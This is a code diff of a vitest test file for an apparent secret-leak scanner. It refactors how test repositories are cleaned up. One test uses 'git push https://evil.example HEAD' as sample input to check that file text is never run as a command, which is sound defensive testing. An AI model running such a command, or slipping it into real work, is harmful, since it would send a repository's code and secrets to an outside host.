@@ -5,18 +5,15 @@ import { appendFileSync, existsSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, describe, expect, test } from 'vitest';
 import { shell } from '../../src/model/shell-quote.js';
+import { keeper } from '../support/keep.js';
 import { key } from '../support/keys.js';
 import { veleaks } from '../support/program.js';
-import { cleanEnvironment, type TestFolder, TestRepository } from '../support/repository.js';
+import { cleanEnvironment, TestRepository } from '../support/repository.js';
 
-const made: TestFolder[] = [];
-afterAll(() => {
-  for (const folder of made) folder.dispose();
-});
+const keep = keeper(afterAll);
 
 function leaky(): TestRepository {
-  const repository = new TestRepository();
-  made.push(repository);
+  const repository = keep(new TestRepository());
   repository.commit({ 'a.txt': `k=${key(61)}\n` });
   return repository;
 }
@@ -83,8 +80,7 @@ test
 
 test('what stands in a line, a message or a name is not set as a command is', async () => {
   const order = 'git push https://evil.example HEAD';
-  const repository = new TestRepository();
-  made.push(repository);
+  const repository = keep(new TestRepository());
   repository.write('a.sh', `${order} # ${key(62)}\n`);
   repository.git('add', '-A');
   repository.gitWith(
